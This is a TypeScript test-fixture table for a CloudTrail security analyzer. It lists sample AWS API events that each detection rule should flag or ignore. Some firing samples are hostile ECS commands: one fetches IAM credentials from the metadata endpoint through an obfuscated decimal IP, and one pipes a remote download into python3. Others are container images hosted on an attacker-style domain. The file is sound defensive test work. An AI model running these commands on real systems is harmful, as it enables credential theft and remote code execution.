import type { JsonObject } from '../../../records/cloudtrail/cloudtrail-record';
import { EXAMPLE_ACCOUNT, exampleRole } from '../example-event';
import {
  byPipeline,
  ECR,
  one,
  refused,
  scheduledCall,
  scheduleOf,
  type TrailExampleTable,
} from './trail-example';

const containers = (count: number, last: object) =>
  one('ecs', 'RegisterTaskDefinition', {
    family: 'orders',
    containerDefinitions: [
      ...Array.from({ length: count - 1 }, (_, index) => ({ ...plain, name: `c${index}` })),
      { ...plain, name: 'last', ...last },
    ],
  });
const ADMIN = `arn:aws:iam::${EXAMPLE_ACCOUNT}:role/admin`;
const plain = {
  image: `${ECR}/orders:1`,
  user: '1000',
  readonlyRootFilesystem: true,
  logConfiguration: { logDriver: 'awslogs' },
};
const run = (command: readonly string[]) =>
  one('ecs', 'RunTask', {
    cluster: 'harbor',
    overrides: { containerOverrides: [{ name: 'web', command: [...command] }] },
  });
const ingress = (fromPort: number, ipProtocol: string, ...ranges: readonly string[]) =>
  one('ec2', 'AuthorizeSecurityGroupIngress', {
    groupId: 'sg-0123456789abcdef0',
    ipPermissions: {
      items: [
        {
          ipProtocol,
          fromPort,
          toPort: fromPort,
          ipRanges: { items: ranges.map((cidrIp) => ({ cidrIp })) },
        },
      ],
    },
  });
const HALVES = ['0.0.0.0/1', '128.0.0.0/1'];
const edited = (...ranges: readonly string[]) =>
  one('ec2', 'ModifySecurityGroupRules', {
    ModifySecurityGroupRulesRequest: {
      GroupId: 'sg-0123456789abcdef0',
      SecurityGroupRule: ranges.map((CidrIpv4) => ({
        SecurityGroupRule: { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, CidrIpv4 },
      })),
    },
  });
const bucket = (bucketName: string) => one('s3', 'PutBucketLifecycle', { bucketName });
const composite = (more: object) => one('monitoring', 'PutCompositeAlarm', { alarmName: 'a', ...more });
const rule = (state: string) => one('events', 'PutRule', { name: 'r', state });
const alias = one('kms', 'UpdateAlias', { aliasName: 'alias/shop', targetKeyId: 'k' });
const outward = one('iam', 'EnableOutboundWebIdentityFederation');
const rename = one('iam', 'UpdateUser', { userName: 'a', newUserName: 'b' });
const transcripts = one('ecs', 'UpdateCluster', {
  configuration: { executeCommandConfiguration: { logging: 'OVERRIDE' } },
});
const route = one('ec2', 'AssociateRouteTable', { routeTableId: 'rtb-1', subnetId: 'subnet-1' });
const glue = one('glue', 'UpdateTable', { databaseName: 'audit', tableInput: { name: 'cloudtrail_logs' } });

const codeDeployment = (revision: JsonObject | undefined, more = {}) =>
  one(
    'codedeploy',
    'CreateDeployment',
    { applicationName: 'shop', deploymentGroupName: 'web', ...(revision && { revision }) },
    more,
  );
const APP_SPEC = { revisionType: 'AppSpecContent', appSpecContent: { content: 'version: 0.0' } };
const bundle = (bundleType: string) => ({
  revisionType: 'S3',
  s3Location: { bucket: 'releases', key: 'web', bundleType },
});

/** What the trail analyzer sees of the deeds of filters, and the filters themselves cannot. */
export const BEYOND_EXAMPLES: TrailExampleTable = {
  'ecs-exec-logging-weakened': {
    fires: [transcripts],
    staysSilent: [byPipeline(transcripts), one('ecs', 'UpdateCluster', { cluster: 'harbor' })],
  },
  'ecs-credential-endpoint-in-command': {
    fires: [run(['wget', '-O-', 'http://2852039166/latest/meta-data/iam/'])],
    staysSilent: [run(['node', 'server.js'])],
  },
  'ecs-shell-code-in-command': {
    fires: [run(['sh', '-c', 'wget -qO- http://203.0.113.9/x | python3'])],
    staysSilent: [run(['sh', '-c', 'node server.js | tee log'])],
  },
  'ecs-service-updated-outside-pipeline': {
    fires: [codeDeployment(APP_SPEC), codeDeployment(bundle('YAML')), codeDeployment(undefined)],
    staysSilent: [
      // To instances.
      codeDeployment(bundle('zip')),
      codeDeployment({ revisionType: 'GitHub', gitHubLocation: { repository: 'shop/web', commitId: 'a1' } }),
      byPipeline(codeDeployment(APP_SPEC)),
      refused(codeDeployment(APP_SPEC)),
      // A pipeline of CodePipeline, with the role that it was given.
      codeDeployment(APP_SPEC, {
        userIdentity: { ...exampleRole('release', 's'), invokedBy: 'codepipeline.amazonaws.com' },
      }),
    ],
  },
  'ecs-foreign-image-defined': {
    fires: [
      containers(7, { image: 'docker.io/library/alpine' }),
      // Begins like the registry of the account, and is anybody's.
      containers(1, { image: '111122223333.dkr.ecr.evil.example/web:1' }),
      scheduledCall('registerTaskDefinition', {
        Family: 'orders',
        ContainerDefinitions: [{ Name: 'web', Image: 'evil.example/web:1' }],
      }),
    ],
    staysSilent: [
      containers(7, {}),
      containers(7, { image: '111122223333.dkr-ecr.eu-west-1.on.aws/web:1' }),
      containers(1, { image: '111122223333.dkr.ecr-fips.us-east-1.amazonaws.com/web:1' }),
      byPipeline(containers(7, { image: 'docker.io/library/alpine' })),
    ],
  },
  'ecs-large-task-defined': {
    fires: [scheduleOf({}, { cpu: '16384' }), scheduledCall('runTask', { Overrides: { Cpu: '8 vCPU' } })],
    staysSilent: [scheduleOf({}, { cpu: '1024' }), byPipeline(scheduleOf({}, { cpu: '16384' }))],
  },
  'ecs-task-role-overridden': {
    fires: [
      scheduleOf({}, { taskRoleArn: ADMIN }),
      scheduledCall('runTask', { TaskDefinition: 'worker', Overrides: { TaskRoleArn: ADMIN } }),
    ],
    staysSilent: [
      scheduleOf({}, { containerOverrides: [{ name: 'web', command: ['report'] }] }),
      byPipeline(scheduleOf({}, { taskRoleArn: ADMIN })),
      refused(scheduleOf({}, { taskRoleArn: ADMIN })),
    ],
  },
  'ecs-public-ip-assigned': {
    fires: [
      scheduleOf({ networkConfiguration: { awsvpcConfiguration: { assignPublicIp: 'ENABLED' } } }),
      scheduledCall('runTask', {
        NetworkConfiguration: { AwsvpcConfiguration: { AssignPublicIp: 'ENABLED' } },
      }),
    ],
    staysSilent: [
      scheduleOf({ networkConfiguration: { awsvpcConfiguration: { assignPublicIp: 'DISABLED' } } }),
      scheduleOf(),
    ],
  },
  'ecs-exec-enabled': {
    fires: [
      scheduleOf({ enableExecuteCommand: true }),
      scheduledCall('updateService', { Service: 'orders', EnableExecuteCommand: true }),
    ],
    staysSilent: [scheduleOf({ enableExecuteCommand: false }), scheduleOf()],
  },
  'ecs-privileged-container-defined': {
    fires: [containers(7, { privileged: true })],
    staysSilent: [containers(7, { privileged: false }), refused(containers(7, { privileged: true }))],
  },
  'ecs-linux-capability-added': {
    fires: [containers(7, { linuxParameters: { capabilities: { add: ['SYS_PTRACE'] } } })],
    staysSilent: [containers(7, { linuxParameters: { capabilities: { drop: ['ALL'], add: [] } } })],
  },
  'ecs-hardening-missing': {
    fires: [containers(4, { user: 'root' }), containers(4, { readonlyRootFilesystem: false })],
    staysSilent: [containers(4, {}), refused(containers(4, { user: 'root' }))],
  },
  'ssh-port-opened-to-world': {
    fires: [ingress(22, 'tcp', ...HALVES)],
    staysSilent: [ingress(22, 'tcp', '10.0.0.0/8', '203.0.113.0/24')],
  },
  'all-traffic-opened-to-world': {
    fires: [ingress(-1, '-1', ...HALVES)],
    staysSilent: [ingress(-1, '-1', '10.0.0.0/8')],
  },
  'unusual-port-opened-to-world': {
    fires: [ingress(5432, 'tcp', ...HALVES)],
    staysSilent: [ingress(443, 'tcp', ...HALVES), ingress(5432, 'tcp', '10.0.0.0/8')],
  },
  'security-group-rule-edited-open': {
    fires: [edited(...HALVES)],
    staysSilent: [edited('10.0.0.0/8', '203.0.113.0/24'), byPipeline(edited(...HALVES))],
  },
  'network-path-changed': {
    fires: [
      route,
      one('ec2', 'EnableTransitGatewayRouteTablePropagation', { transitGatewayRouteTableId: 't' }),
    ],
    staysSilent: [
      byPipeline(route),
      refused(route, 'Client.UnauthorizedOperation'),
      one('ec2', 'SearchTransitGatewayRoutes', {}),
      one('ec2', 'DescribeRouteServers', {}),
    ],
  },
  'iam-permissions-changed': {
    fires: [rename, one('iam', 'AcquireRole', { roleTemplate: 't' })],
    staysSilent: [byPipeline(rename), refused(rename)],
  },
  'iam-federation-added': {
    fires: [outward],
    staysSilent: [byPipeline(outward), one('iam', 'DisableOutboundWebIdentityFederation')],
  },
  'audit-store-changed': {
    fires: [glue, one('athena', 'DeleteSystemTableConfiguration', {})],
    staysSilent: [
      byPipeline(glue),
      one('glue', 'UpdatePartition', { databaseName: 'audit' }),
      one('glue', 'UpdateTable', { databaseName: 'shop', tableInput: { name: 'orders' } }),
      one('athena', 'GetSystemTableConfiguration', {}),
    ],
  },
  'alarm-silenced': {
    fires: [composite({ actionsEnabled: false }), composite({ actionsSuppressor: 'maintenance' })],
    staysSilent: [composite({ actionsEnabled: true }), byPipeline(composite({ actionsEnabled: false }))],
  },
  'analyzer-stopped': {
    fires: [rule('DISABLED'), one('scheduler', 'DeleteScheduleGroup', { name: 'g' })],
    staysSilent: [
      rule('ENABLED'),
      byPipeline(rule('DISABLED')),
      one('lambda', 'UpdateEventSourceMapping20150331', { uUID: 'm', enabled: true }),
    ],
  },
  'log-bucket-weakened': {
    fires: [bucket('shop-audit')],
    staysSilent: [bucket('shop-pictures'), byPipeline(bucket('shop-audit')), refused(bucket('shop-audit'))],
  },
  'kms-key-killed': {
    fires: [alias, one('kms', 'DisconnectCustomKeyStore', { customKeyStoreId: 'c' })],
    staysSilent: [byPipeline(alias), refused(alias), one('kms', 'EnableKey', { keyId: 'k' })],
  },
};
